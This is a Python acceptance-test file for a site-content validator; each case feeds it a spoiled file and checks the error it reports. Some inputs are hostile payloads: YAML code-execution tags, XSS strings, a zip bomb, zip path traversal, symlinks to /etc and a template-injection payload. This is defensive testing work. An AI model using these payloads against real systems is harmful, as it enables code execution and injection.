"""Acceptance tests: every kind of bad input from BAD-INPUTS.md, through the real `imc check`.

Each case copies the tiny valid project `tests/fixtures/mini/` to a temporary folder, spoils
one file (as text or as raw bytes), runs `python -m imc.cli --root TMP check --format json`
and asserts the exit code, the absence of a traceback, and the exact problem: path, line
(column where it is meaningful), field, a fragment of the Russian message and the severity.

Items 1–28 of BAD-INPUTS.md are covered below (the `item` of each case). Items 29–30 are about
pull-request workflows (`.github/`, script injection through PR titles): `imc check` never
sees them, they are tested with the workflows, not here.
"""
from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time
import unicodedata
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest

MINI = Path(__file__).parent / "fixtures" / "mini"

PRACTICE = "docs/praktiki/chitatelskiy-marafon/index.md"
PRODUCT = "docs/kopilka/zadachi-na-protsenty/index.md"
PDF = "docs/kopilka/zadachi-na-protsenty/zadachi.pdf"
RMO = "docs/rmo/rmo-matematikov/index.md"
REGULATION = "docs/dokumenty/polozhenie-o-konkurse.md"
EVENT = "docs/sobytiya/seminar-fg-2025.md"
NEWS = "docs/novosti/itogi-konkursa.md"
ACT = "docs/normativnaya-baza/prikaz-196.md"
ACT2 = "docs/normativnaya-baza/prikaz-196-kopiya.md"
ATTESTATION = "data/attestation.yml"
INDEX = "docs/index.md"
PEOPLE = "data/people.yml"
ORGS = "data/organisations.yml"

COURSE = "docs/kursy/kurs.md"
BOOK = "docs/knigi/kniga.md"
HIDDEN_NAME = "Сидорова Елена Викторовна"  # consent: false in data/people.yml

VALID_COURSE = """---
title: Подготовка экспертов ОГЭ по математике
description: Курс для учителей математики — критерии оценивания развёрнутых ответов.
provider: sosh-1
start: 2026-12-07
end: 2026-12-18
hours: 36
format: smeshanno
subjects: [matematika]
levels: [ООО]
positions: [uchitel]
cost: byudzhet
document: udostoverenie
registration: https://example.org/zapis/
participants_count: 12
place: СШ № 1, актовый зал
price: 0
date: 2026-11-02
updated: 2026-11-03
attachments: []
directions: [funktsionalnaya-gramotnost]
registration_deadline: 2026-12-01
---
Программа курса.
"""
VALID_BOOK = """---
title: Читаем с увлечением
subtitle: методическое пособие
description: Как устроить читательский марафон в 5–7 классах.
kind: metodicheskoe
authors: [Лебедева Н. А.]
isbn: 978-5-6049830-1-0
place: Заречный
publisher: ИМЦ Заречного округа
year: 2026
pages: 96
book_format: pechatnoe
subjects: [literatura]
levels: [ООО]
library: абонемент ИМЦ, 5 экземпляров
date: 2026-11-10
---
"""
VALID_NEWS = (
    "---\ntitle: Новость\ndescription: Короткая новость для проверки имён файлов.\n"
    "date: 2025-04-02\n---\nТекст новости.\n"
)


# ------------------------------------------------------------------ running the real CLI

@dataclass
class Run:
    rc: int
    stdout: str
    stderr: str
    seconds: float

    @property
    def problems(self) -> list[dict]:
        return json.loads(self.stdout)


def run_imc(root: Path, *args: str, cwd: Path | None = None, timeout: float = 120) -> Run:
    start = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-m", "imc.cli", "--root", str(root), *args],
        capture_output=True, text=True, encoding="utf-8", errors="replace",
        cwd=cwd, timeout=timeout, env={**os.environ, "PYTHONIOENCODING": "utf-8"},
    )
    run = Run(proc.returncode, proc.stdout, proc.stderr, time.monotonic() - start)
    assert "Traceback" not in run.stdout + run.stderr, run.stdout + run.stderr
    return run


def check_json(root: Path, *paths: str, timeout: float = 120) -> Run:
    return run_imc(root, "check", "--format", "json", *paths, timeout=timeout)


@pytest.fixture
def mini(tmp_path) -> Path:
    root = tmp_path / "site"
    shutil.copytree(MINI, root, symlinks=True)
    return root


# ------------------------------------------------------------------ spoiling one file

Setup = Callable[[Path], None]


def write(rel: str, content: str | bytes) -> Setup:
    def do(root: Path) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_bytes(content.encode("utf-8"))
    return do


def replace(rel: str, old: str, new: str) -> Setup:
    """Replace text that must be in the file (so a fixture change cannot empty a case)."""
    def do(root: Path) -> None:
        path = root / rel
        text = path.read_text(encoding="utf-8")
        assert old in text, f"{old!r} is not in {rel}: the fixture changed"
        path.write_bytes(text.replace(old, new, 1).encode("utf-8"))
    return do


def append(rel: str, text: str) -> Setup:
    def do(root: Path) -> None:
        path = root / rel
        path.write_bytes(path.read_bytes() + text.encode("utf-8"))
    return do


def transform(rel: str, fn: Callable[[bytes], bytes]) -> Setup:
    def do(root: Path) -> None:
        path = root / rel
        path.write_bytes(fn(path.read_bytes()))
    return do


def chain(*steps: Setup) -> Setup:
    def do(root: Path) -> None:
        for step in steps:
            step(root)
    return do


def symlink(rel: str, target: str) -> Setup:
    def do(root: Path) -> None:
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, root / rel)
    return do


def sparse(rel: str, head: bytes, size: int) -> Setup:
    def do(root: Path) -> None:
        with open(root / rel, "wb") as fh:
            fh.write(head)
            fh.truncate(size)
    return do


def practice_body(text: str) -> Setup:
    """Add a paragraph at the end of the practice (a contributed page)."""
    return append(PRACTICE, "\n" + text + "\n")


def news_body(text: str) -> Setup:
    return append(NEWS, "\n" + text + "\n")


def attach(name: str, title: str = "Приложение") -> Setup:
    """Add one more attachment to the product."""
    return replace(PRODUCT, "    file: zadachi.pdf\n",
                   f"    file: zadachi.pdf\n  - title: {title}\n    file: {name}\n")


def _docx(with_macros: bool) -> bytes:
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<?xml version='1.0'?><Types/>")
        z.writestr("word/document.xml", "<?xml version='1.0'?><w:document/>")
        if with_macros:
            z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    return buf.getvalue()


def _zip_bomb(traversal: bool = False) -> bytes:
    """A DOCX of ~300 KB whose document.xml unpacks to 300 MB of zeros (or, with `traversal`,
    an ordinary one with a part named «../../…»)."""
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<?xml version='1.0'?><Types/>")
        if traversal:
            z.writestr("word/document.xml", "<?xml version='1.0'?><w:document/>")
            z.writestr("../../.github/workflows/x.yml", "on: push")
        else:
            with z.open("word/document.xml", "w", force_zip64=True) as fh:
                for _ in range(300):
                    fh.write(bytes(1 << 20))
    return buf.getvalue()


def _exif_jpeg_with_gps() -> bytes:
    """A JPEG whose EXIF block has a GPS IFD (latitude/longitude of a home, say)."""
    import struct
    # TIFF header (little endian), IFD0 with one entry: GPSInfo (0x8825) -> offset 26
    ifd0 = struct.pack("<H", 1) + struct.pack("<HHII", 0x8825, 4, 1, 26) + struct.pack("<I", 0)
    # GPS IFD: GPSLatitudeRef 'N', GPSLatitude 3 rationals at offset 56
    gps = struct.pack("<H", 2)
    gps += struct.pack("<HHI", 1, 2, 2) + b"N\x00\x00\x00"
    gps += struct.pack("<HHII", 2, 5, 3, 56) + struct.pack("<I", 0)
    rationals = struct.pack("<IIIIII", 55, 1, 45, 1, 0, 1)
    tiff = b"II*\x00" + struct.pack("<I", 8) + ifd0 + gps + rationals
    app1 = b"Exif\x00\x00" + tiff
    return (b"\xff\xd8\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 +
            b"\xff\xdb\x00\x43\x00" + bytes(64) + b"\xff\xd9")


REGULATION_HABITS = """
## 3. Обязанности 3.1. Организатор публикует итоги.

- 3.2. Жюри оценивает работы.
• 3.3 Участник соблюдает сроки.
— 3.4) Методист консультирует участников.

3. 5. Итоги утверждаются приказом:

а) об итогах конкурса;
1) о награждении.

3 .6. Споры решает оргкомитет.

## 4.1.

Текст пункта, заголовок которого — один номер.

Приложение 1 к Положению

## 1. Форма заявки

1.2. Заявка подаётся до начала конкурса.
"""


SCANNED_PDF = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
               b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
               b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
               b"/Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >> endobj\n"
               b"4 0 obj << /Type /XObject /Subtype /Image /Width 1 /Height 1 "
               b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Length 1 >> stream\n\x80\nendstream endobj\n"
               b"5 0 obj << /Length 27 >> stream\nq 595 0 0 842 0 0 cm /Im0 Do Q\nendstream endobj\n"
               b"trailer << /Root 1 0 R >>\n%%EOF\n")


# ------------------------------------------------------------------ expectations

@dataclass
class Exp:
    """A problem that must be reported (all given attributes must match one problem)."""
    path: str | tuple[str, ...]  # a tuple: any of these files (when the choice is arbitrary)
    line: int | str | None = None  # an int, or a marker: the first line containing this text
    col: int | None = None
    field: str | None = None
    msg: str | tuple[str, ...] | None = None  # fragment; a tuple means «any of these»
    hint: str | None = None
    severity: str = "error"
    code: str | None = None


def _file_lines(root: Path, rel: str) -> list[str]:
    raw = (root / rel).read_bytes()
    text = raw.decode("utf-8", errors="replace").lstrip("\ufeff")
    return text.replace("\r\n", "\n").replace("\r", "\n").split("\n")


def resolve_line(root: Path, exp: Exp) -> int | None:
    if not isinstance(exp.line, str):
        return exp.line
    for n, line in enumerate(_file_lines(root, exp.path), start=1):
        if exp.line in line:
            return n
    raise AssertionError(f"marker {exp.line!r} is not in {exp.path}")


def matches(p: dict, exp: Exp, line: int | None) -> bool:
    paths = exp.path if isinstance(exp.path, tuple) else (exp.path,)
    if p["path"] not in paths or p["severity"] != exp.severity:
        return False
    if line is not None and p["line"] != line:
        return False
    if exp.col is not None and p["col"] != exp.col:
        return False
    if exp.field is not None and p["field"] != exp.field:
        return False
    if exp.code is not None and p["code"] != exp.code:
        return False
    if exp.msg is not None:
        frags = exp.msg if isinstance(exp.msg, tuple) else (exp.msg,)
        if not any(f in p["message"] for f in frags):
            return False
    if exp.hint is not None and exp.hint not in p["hint"]:
        return False
    return True


def show(problems: list[dict]) -> str:
    return "\n".join(f'{p["path"]}:{p["line"]}:{p["col"]}: {p["severity"]}: {p["field"]}: '
                     f'{p["message"]} — {p["hint"]} [{p["code"]}]' for p in problems) or "(no problems)"


def assert_reported(root: Path, problems: list[dict], exp: Exp) -> None:
    line = resolve_line(root, exp)
    assert any(matches(p, exp, line) for p in problems), \
        f"expected {exp} (line {line}) among:\n{show(problems)}"


def assert_not_reported(root: Path, problems: list[dict], exp: Exp) -> None:
    line = resolve_line(root, exp)
    found = [p for p in problems if matches(p, exp, line)]
    assert not found, f"unexpected problem {exp}:\n{show(found)}"


# ------------------------------------------------------------------ the catalogue

@dataclass
class Case:
    id: str
    item: str  # number(s) in BAD-INPUTS.md
    setup: Setup
    expect: list[Exp] = field(default_factory=list)
    rc: int = 1
    absent: list[Exp] = field(default_factory=list)
    max_seconds: float | None = None
    extra: Callable[[Path], None] | None = None  # in-process checks of what the engine kept


def meta_of(rel: str, key_path: tuple, expected) -> Callable[[Path], None]:
    """The value the author wrote must reach the site unchanged (as text)."""
    def do(root: Path) -> None:
        from imc.check.load import load_project
        project = load_project(root)
        item = next(i for i in project.items if i.rel == rel)
        value = item.meta
        for k in key_path:
            value = value[k]
        assert value == expected and type(value) is type(expected), (value, expected)
    return do


def E(path, line=None, col=None, field=None, msg=None, hint=None, code=None) -> Exp:
    return Exp(path, line, col, field, msg, hint, "error", code)


def W(path, line=None, col=None, field=None, msg=None, hint=None, code=None) -> Exp:
    return Exp(path, line, col, field, msg, hint, "warning", code)


TITLE = "title: Читательский марафон в 5 классе"
BODY_END = "Начните с коротких книг и еженедельных итогов."
VALID_ACT = (
    "---\ntitle: Об утверждении Порядка проведения аттестации педагогических работников\n"
    "level: federalnyy\nkind: prikaz\nissuer: minprosveshcheniya\nnumber: \"196\"\ndate: 2023-03-24\n"
    "status: deystvuet\ntopics: [attestatsiya]\nsource: http://publication.pravo.gov.ru/\n---\n\n"
    "## Что это значит для учителя\n\nДействующий порядок аттестации.\n"
)
VALID_WINDOW = ("- id: priem\n  part: srok\n  title: Приём заявлений\n  start: 2026-09-01\n  end: 2026-10-15\n"
                "- id: obrazets\n  part: forma\n  title: Образец заявления\n  url: https://example.org/obrazets\n")


def act(old: str = "", new: str = "", rel: str = ACT) -> Setup:
    """A valid act in the mini project, with one line changed."""
    return write(rel, VALID_ACT.replace(old, new) if old else VALID_ACT)


CASES: list[Case] = [
    # ---------------------------------------------------------------- 1. invalid YAML
    Case("yaml-unclosed-double-quote", "1",
         replace(PRACTICE, TITLE, 'title: "Читательский марафон в 5 классе'),
         [E(PRACTICE, "title:", 8, "", "не закрыта кавычка", "кавычк")]),
    Case("yaml-unclosed-quote-only-quote-in-file", "1",
         replace(NEWS, "title: Подведены итоги", 'title: "Подведены итоги'),
         [E(NEWS, "title:", 8, "", "не закрыта кавычка", "кавычк")]),
    Case("yaml-unclosed-single-quote-registry", "1",
         replace(PEOPLE, "name: Петров Алексей Николаевич", "name: 'Петров Алексей Николаевич"),
         [E(PEOPLE, "name: 'Петров", 9, "", "не закрыта кавычка")]),
    Case("yaml-unquoted-colon", "1",
         replace(PRACTICE, TITLE, "title: Урок: введение"),
         [E(PRACTICE, "title: Урок", 12, "", "двоеточие", "кавычки")]),
    Case("yaml-unclosed-bracket", "1",
         replace(PRACTICE, "levels: [ООО]", "levels: [ООО"),
         [E(PRACTICE, None, None, "", "не закрыта скобка")]),
    # ---------------------------------------------------------------- 2. duplicate keys
    Case("yaml-duplicate-key", "2",
         replace(PRACTICE, "organisation: sosh-1\n", "organisation: sosh-1\ntitle: Другое название\n"),
         [E(PRACTICE, "title: Другое", 1, "", "«title» повторяется (первый раз — в строке 2)")]),
    Case("yaml-duplicate-key-nested", "2",
         replace(PRACTICE, "    novizna: 2\n", "    novizna: 2\n    aktualnost: 1\n"),
         [E(PRACTICE, "    aktualnost: 1", 5, "", "«aktualnost» повторяется (первый раз — в строке 20)")]),
    Case("yaml-duplicate-key-registry", "2",
         replace(PEOPLE, "  position: учитель математики\n",
                 "  position: учитель математики\n  position: завуч\n"),
         [E(PEOPLE, "position: завуч", 3, "", "«position» повторяется")]),
    # ---------------------------------------------------------------- 3. yes/no/on
    *[Case(f"bool-{word}-in-consent", "3",
           replace(PEOPLE, "consent: false", f"consent: {word}"),
           [E(PEOPLE, f"consent: {word}", 12, "consent", "понимается неоднозначно", "true")])
      for word in ("no", "yes", "on", "NO", "off", "да")],
    Case("bool-quoted-text-in-consent", "3",
         replace(PEOPLE, "consent: false", 'consent: "false"'),
         [E(PEOPLE, 'consent: "false"', 12, "consent", None, "true")]),
    Case("bool-word-in-text-field-is-text", "3",
         replace(NEWS, "title: Подведены итоги конкурса методических разработок", "title: no"),
         rc=0, extra=meta_of(NEWS, ("title",), "no")),
    Case("quotes-in-vocabulary-title", "3",  # it titles a catalogue page the build generates
         replace("data/vocabularies.yml", "{id: matematika, title: Математика,",
                 "{id: matematika, title: 'Математика \"углублённо\" \\ 5–9',"),
         rc=0, absent=[E("data/vocabularies.yml")]),
    Case("bool-word-in-description-is-text", "3",
         replace(NEWS, "description: Названы победители муниципального конкурса 2025 года.",
                 "description: on"),
         rc=0, extra=meta_of(NEWS, ("description",), "on")),
    Case("bool-on-yes-as-key", "3",
         replace(NEWS, "date: 2025-04-01\n", "date: 2025-04-01\non: yes\n"),
         [E(NEWS, "on: yes", 1, "on", "неизвестное поле")]),
    # ---------------------------------------------------------------- 4. 012, 12:30, 1.10
    Case("int-leading-zero", "4",
         replace(RMO, "members_count: 24", "members_count: 012"),
         [E(RMO, "members_count: 012", 16, "members_count", "«012» начинается с нуля", "12")]),
    Case("int-leading-zero-in-list", "4",
         replace(PRACTICE, "grades: [5]", "grades: [05]"),
         [E(PRACTICE, "grades: [05]", 10, "grades[0]", "начинается с нуля", "5")]),
    Case("time-unquoted-kept-as-text", "4",
         replace(EVENT, 'time: "10:00"', "time: 12:30"),
         rc=0, extra=meta_of(EVENT, ("time",), "12:30")),
    Case("time-sexagesimal-meeting", "4",
         replace(RMO, "time: 14:30", "time: 9:05"),
         rc=0, extra=meta_of(RMO, ("meetings", 0, "time"), "9:05")),
    Case("decimal-kept-as-text", "4",
         replace(REGULATION, "number: 45-од", "number: 1.10"),
         rc=0, extra=meta_of(REGULATION, ("order", "number"), "1.10")),
    Case("decimal-protocol-kept-as-text", "4",
         replace(PRACTICE, 'protocol: "3"', "protocol: 1.10"),
         rc=0, extra=meta_of(PRACTICE, ("review", "protocol"), "1.10")),
    Case("octal-like-text-kept", "4",
         replace(REGULATION, "number: 45-од", "number: 012"),
         rc=0, extra=meta_of(REGULATION, ("order", "number"), "012")),
    # ---------------------------------------------------------------- 5. dates
    Case("date-russian-format", "5",
         replace(PRACTICE, "date: 2024-09-01", "date: 01.09.2024"),
         [E(PRACTICE, "date: 01.09.2024", 7, "date", "не в формате ГГГГ-ММ-ДД", "2024-09-01")]),
    Case("date-impossible-iso", "5",
         replace(PRACTICE, "date: 2024-09-01", "date: 2024-13-45"),
         [E(PRACTICE, "date: 2024-13-45", 7, "date", "нет в календаре")]),
    Case("date-impossible-russian", "5",
         replace(NEWS, "date: 2025-04-01", "date: 31.02.2025"),
         [E(NEWS, "date: 31.02.2025", 7, "date", "не в формате", "такой даты нет")]),
    Case("date-not-a-date", "5",
         replace(EVENT, "start: 2025-03-12", "start: весной"),
         [E(EVENT, "start: весной", 8, "start", "не дата")]),
    Case("date-nested-in-list", "5",
         replace(RMO, "  - date: 2024-10-15", "  - date: 15.10.2024"),
         [E(RMO, "date: 15.10.2024", 11, "meetings[0].date", "не в формате", "2024-10-15")]),
    # ---------------------------------------------------------------- 6. tabs, terminators
    Case("yaml-tab-indentation", "6",
         replace(PRACTICE, "  status: rekomendovana", "\tstatus: rekomendovana"),
         [E(PRACTICE, "status: rekomendovana", None, "", "табуляция", "пробел")]),
    Case("front-matter-not-closed", "6",
         write(NEWS, "---\ntitle: Новость\ndescription: Без закрывающей черты.\ndate: 2025-04-01\n"
                     "Текст новости.\n"),
         [E(NEWS, 1, 1, "", "не закрыт", "---")]),
    Case("front-matter-dots-terminator", "6",
         replace(NEWS, "date: 2025-04-01\n---\n", "date: 2025-04-01\n...\n"),
         [W(NEWS, 5, 1, "", "«...»")], rc=0,
         absent=[E(NEWS)]),
    Case("front-matter-leading-spaces", "6",
         transform(NEWS, lambda b: b"  " + b),
         [E(NEWS, 1, 1, "", "перед «---»")]),
    Case("front-matter-blank-line-before", "6",
         transform(NEWS, lambda b: b"\n" + b),
         [E(NEWS, 2, 1, "", "перед «---»")]),
    # ---------------------------------------------------------------- 7. list, scalar, none, TOML
    Case("front-matter-is-list", "7",
         write(NEWS, "---\n- title: Новость\n- date: 2025-04-01\n---\nТекст.\n"),
         [E(NEWS, 2, 1, "", "список")]),
    Case("front-matter-is-scalar", "7",
         write(NEWS, "---\nПросто текст новости\n---\nТекст.\n"),
         [E(NEWS, 2, 1, "", "одно значение")]),
    Case("front-matter-missing-in-practice", "7",
         write(PRACTICE, "## Проблема\n\nТекст без метаданных.\n"),
         [E(PRACTICE, 1, 1, "", "нет блока метаданных", "imc new practice")]),
    Case("front-matter-toml", "7",
         write(NEWS, '+++\ntitle = "Новость"\ndate = 2025-04-01\n+++\nТекст.\n'),
         [E(NEWS, 1, 1, "", "TOML")]),
    # ---------------------------------------------------------------- 8. tags
    Case("yaml-python-tag", "8",
         replace(PRACTICE, TITLE, "title: !!python/object/apply:os.system ['touch PWNED']"),
         [E(PRACTICE, "title: !!python", 8, "", "тег «!!python/object/apply:os.system» не разрешён")],
         extra=lambda root: assert_no_file(root, "PWNED")),
    Case("yaml-python-tag-registry", "8",
         replace(PEOPLE, "name: Петров Алексей Николаевич",
                 "name: !!python/object/apply:subprocess.check_output [['id']]"),
         [E(PEOPLE, "!!python", 9, "", "не разрешён")]),
    Case("yaml-binary-tag", "8",
         replace(NEWS, "title: Подведены итоги конкурса методических разработок",
                 "title: !!binary aGVsbG8="),
         [E(NEWS, "!!binary", 8, "", "тег «!!binary» не разрешён")]),
    Case("yaml-deep-flow-list", "1",
         replace(PRACTICE, "keywords: [чтение, марафон]\n", "keywords: " + "[" * 499 + "]" * 499 + "\n"),
         [E(PRACTICE, "keywords: [[[", None, "", "вложенность глубже 50 уровней", code="yaml")], max_seconds=20),
    Case("yaml-deep-block-list", "1",
         replace(PRACTICE, "keywords: [чтение, марафон]\n",
                 "keywords:\n" + "".join(" " * i + "-\n" for i in range(499))),
         [E(PRACTICE, None, None, "", "вложенность глубже 50 уровней", code="yaml")], max_seconds=20),
    Case("yaml-alias-bomb", "8",
         replace(PRACTICE, "keywords: [чтение, марафон]\n", "x0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" +
                 "".join(f"x{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]\n" for i in range(1, 9))),
         [E(PRACTICE)], max_seconds=20),
    # ---------------------------------------------------------------- 9. keys and types
    Case("unknown-key-typo", "9",
         replace(PRACTICE, TITLE, "titel: Читательский марафон в 5 классе"),
         [E(PRACTICE, "titel:", 1, "titel", "неизвестное поле", "«title»"),
          E(PRACTICE, None, None, "title", "обязательное поле")]),
    Case("unknown-key-nested", "9",
         replace(PRACTICE, "  body: metodsovet", "  bodi: metodsovet"),
         [E(PRACTICE, "bodi:", 3, "review.bodi", "неизвестное поле", "«body»")]),
    Case("missing-required-key", "9",
         replace(PRACTICE, "organisation: sosh-1\n", ""),
         [E(PRACTICE, 2, None, "organisation", "обязательное поле не заполнено", "organisation")]),
    Case("empty-required-key", "9",
         replace(NEWS, "description: Названы победители муниципального конкурса 2025 года.",
                 "description:"),
         [E(NEWS, "description:", 1, "description", "обязательное поле не заполнено")]),
    Case("string-for-list", "9",
         replace(PRACTICE, "levels: [ООО]", "levels: ООО"),
         [E(PRACTICE, "levels: ООО", 9, "levels", "ожидался список", "levels: [ООО]")]),
    Case("list-for-string", "9",
         replace(NEWS, "title: Подведены итоги конкурса методических разработок", "title: [a, b]"),
         [E(NEWS, "title: [a, b]", 8, "title", "ожидалось одно значение")]),
    Case("int-field-with-text", "9",
         replace(RMO, "members_count: 24", "members_count: двадцать"),
         [E(RMO, "members_count:", 16, "members_count", "не целое число")]),
    # ---------------------------------------------------------------- 10. markup in strings
    Case("markup-in-title", "10",
         replace(PRACTICE, TITLE, "title: '<img src=x onerror=alert(1)>'"),
         [E(PRACTICE, "title: '<img", 8, "title", "HTML-разметка")]),
    Case("javascript-in-description", "10",
         replace(NEWS, "description: Названы победители муниципального конкурса 2025 года.",
                 "description: 'Подробнее: javascript:alert(1)'"),
         [E(NEWS, "description:", 14, "description", "javascript")]),
    Case("markup-in-registry-name", "10",
         replace(PEOPLE, "name: Петров Алексей Николаевич", "name: Петров <script>alert(1)</script>"),
         [E(PEOPLE, "name: Петров", 9, "name", "HTML-разметка")]),
    # ---------------------------------------------------------------- 11. BOM, CRLF, CR, NUL
    Case("utf8-bom", "11",
         transform(PRACTICE, lambda b: b"\xef\xbb\xbf" + b),
         [W(PRACTICE, 1, 1, "", "BOM")], rc=0,
         absent=[E(PRACTICE)]),
    Case("crlf-harmless", "11",
         transform(PRACTICE, lambda b: b.replace(b"\n", b"\r\n")),
         rc=0, absent=[E(PRACTICE), W(PRACTICE)]),
    Case("crlf-line-numbers", "11",
         chain(replace(PRACTICE, "  body: metodsovet", "  bodi: metodsovet"),
               transform(PRACTICE, lambda b: b.replace(b"\n", b"\r\n"))),
         [E(PRACTICE, 15, 3, "review.bodi", "неизвестное поле")]),
    Case("lone-cr-harmless", "11",
         transform(PRACTICE, lambda b: b.replace(b"\n", b"\r")),
         rc=0, absent=[E(PRACTICE), W(PRACTICE)]),
    Case("lone-cr-line-numbers", "11",
         chain(replace(PRACTICE, "  body: metodsovet", "  bodi: metodsovet"),
               transform(PRACTICE, lambda b: b.replace(b"\n", b"\r"))),
         [E(PRACTICE, 15, 3, "review.bodi", "неизвестное поле")]),
    Case("nul-byte", "11",
         transform(NEWS, lambda b: b.replace("Победители".encode(), "Побед\x00ители".encode())),
         [E(NEWS, 1, 1, "", ("не текстовый", "NUL"))]),
    Case("nul-byte-far-in-file", "11",
         chain(news_body("\n".join(["Строка текста новости, довольно длинная для проверки."] * 300)),
               append(NEWS, "Хвост\x00\n")),
         [E(NEWS, "Хвост", 1, "", "нулевой символ")]),
    # ---------------------------------------------------------------- 12. cp1251, UTF-16
    Case("cp1251-file", "12",
         transform(NEWS, lambda b: b.decode("utf-8").encode("cp1251")),
         [E(NEWS, 2, 1, "", "Windows-1251", "UTF-8")]),
    Case("utf16-file", "12",
         transform(NEWS, lambda b: b.decode("utf-8").encode("utf-16")),
         [E(NEWS, 1, 1, "", "UTF-16", "UTF-8")]),
    Case("utf16le-without-bom", "12",  # as some editors save «Юникод»: told as UTF-16, not as binary
         transform(NEWS, lambda b: b.decode("utf-8").encode("utf-16-le")),
         [E(NEWS, 1, 1, "", "UTF-16", "UTF-8")]),
    Case("latin1-bytes-not-utf8", "12",
         write(NEWS, b"---\ntitle: Caf\xe9\n---\n"),
         [E(NEWS, 2, 1, "", "UTF-8")]),
    # ---------------------------------------------------------------- 13. empty, only FM, big
    Case("empty-file", "13", write(NEWS, b""), [E(NEWS, 1, 1, "", "файл пуст")]),
    Case("whitespace-only-file", "13", write(PRACTICE, "\n  \n\t\n"), [E(PRACTICE, 1, 1, "", "файл пуст")]),
    Case("only-front-matter-practice", "13",
         transform(PRACTICE, lambda b: b[: b.index(b"## ")]),
         [E(PRACTICE, 2, None, "", "нет разделов: «Проблема», «Идея», «Как это делается», "
                                   "«Результаты», «Ресурсы», «Как повторить»", "## Проблема")]),
    Case("one-passport-section-missing", "13",
         replace(PRACTICE, "## Ресурсы\n", "## Материалы\n"),
         [E(PRACTICE, 2, None, "", "нет разделов: «Ресурсы»")]),
    Case("big-markdown-5mb", "13",
         news_body("\n".join(["Обычный абзац новости о методической работе в округе, без ссылок."] * 45000)),
         [W(NEWS, 1, 1, "", "файл очень большой", code="big-file")], rc=0, max_seconds=10),
    Case("table-10000-rows", "13",
         news_body("| № | Школа | Участников |\n|---|---|---|\n" +
                   "\n".join(f"| {n} | Школа № {n % 40} | {n % 97} |" for n in range(10000))),
         rc=0, max_seconds=10, absent=[E(NEWS)]),
    Case("body-unclosed-brackets-50000", "13", practice_body("[" * 50000),
         [E(PRACTICE, "[[[[", 1, "", "незакрытых скобок «[»", code="limits"),
          E(PRACTICE, "[[[[", 1, "", "строка длиннее 20\u00a0000 символов", code="limits")], max_seconds=15),
    Case("body-unclosed-template-tags-40000", "13",
         practice_body("\n".join("{% a" * 2000 for _ in range(20))), rc=0, absent=[E(PRACTICE)], max_seconds=15),
    Case("body-long-line", "13", practice_body("слово " * 4000),
         [E(PRACTICE, "слово слово", 1, "", "строка длиннее", code="limits")]),
    Case("body-nested-list-300", "13",
         practice_body("".join("    " * i + "- пункт\n" for i in range(300))),
         [E(PRACTICE, " " * 80 + "- пункт", 1, "", "вложенность списков и цитат глубже 20", code="limits")],
         max_seconds=15),
    Case("body-nested-quote-300", "13", practice_body(">" * 300 + " цитата"),
         [E(PRACTICE, ">>>>", 1, "", "вложенность списков и цитат", code="limits")]),
    Case("body-unclosed-tags", "13", practice_body("\n".join("<a " * 3000 for _ in range(5))),
         [E(PRACTICE, "<a <a", None, "", "незакрытых «<»", code="limits")], max_seconds=15),
    # ---------------------------------------------------------------- 14. file names, symlinks
    *[Case(f"file-name-{label}", "14", write(f"docs/novosti/{name}", VALID_NEWS),
           [E(f"docs/novosti/{name}", 1, 1, "", "не латиница", f"«{good}»")])
      for label, name, good in [
          ("cyrillic", "Новость.md", "novost.md"),
          ("space", "moya novost.md", "moya-novost.md"),
          ("percent", "100%-itogi.md", "100-itogi.md"),
          ("hash", "itogi#1.md", "itogi-1.md"),
          ("question", "itogi?.md", "itogi.md"),
          ("upper-case", "Itogi-2025.md", "itogi-2025.md"),
          ("nfd-y", unicodedata.normalize("NFD", "новый.md"), "novyy.md"),
      ]],
    Case("file-names-differ-in-case", "14",
         chain(write("docs/novosti/itogi.md", VALID_NEWS), write("docs/novosti/ITOGI.md", VALID_NEWS)),
         [E("docs/novosti/itogi.md", 1, 1, "", "совпадает с «novosti/ITOGI.md»")]),
    Case("file-names-differ-in-normalisation", "14",
         chain(write("docs/novosti/й.md", VALID_NEWS),
               write(unicodedata.normalize("NFD", "docs/novosti/й.md"), VALID_NEWS)),
         [E("docs/novosti/й.md", 1, 1, "", "совпадает")]),
    Case("symlink-outside", "14",
         symlink("docs/novosti/link.md", "/etc/hostname"),
         [E("docs/novosti/link.md", 1, 1, "", "за пределы проекта")]),
    Case("symlink-dir-outside", "14",
         symlink("docs/novosti/etc", "/etc"),
         [E("docs/novosti/etc", 1, 1, "", "за пределы проекта")]),
    # ---------------------------------------------------------------- 15. binary as .md
    Case("binary-as-md", "15",
         write(NEWS, bytes(range(256)) * 4),
         [E(NEWS, 1, 1, "", "не текстовый файл")]),
    Case("png-as-md", "15",
         write("docs/novosti/kartinka.md", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(32)),
         [E("docs/novosti/kartinka.md", 1, 1, "", "не текстовый файл")]),
    Case("high-bytes-as-md", "15",
         write(NEWS, bytes([0x80, 0x81, 0x98, 0x83]) * 64),
         [E(NEWS, 1, 1, "", "не в кодировке UTF-8")]),
    # ---------------------------------------------------------------- 16. template syntax
    Case("template-config", "16",
         practice_body("Настройки сайта: {{ config }}"),
         [E(PRACTICE, "{{ config }}", 18, "", "шаблонная вставка", code="template")]),
    Case("template-cycler-payload", "16",
         practice_body("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
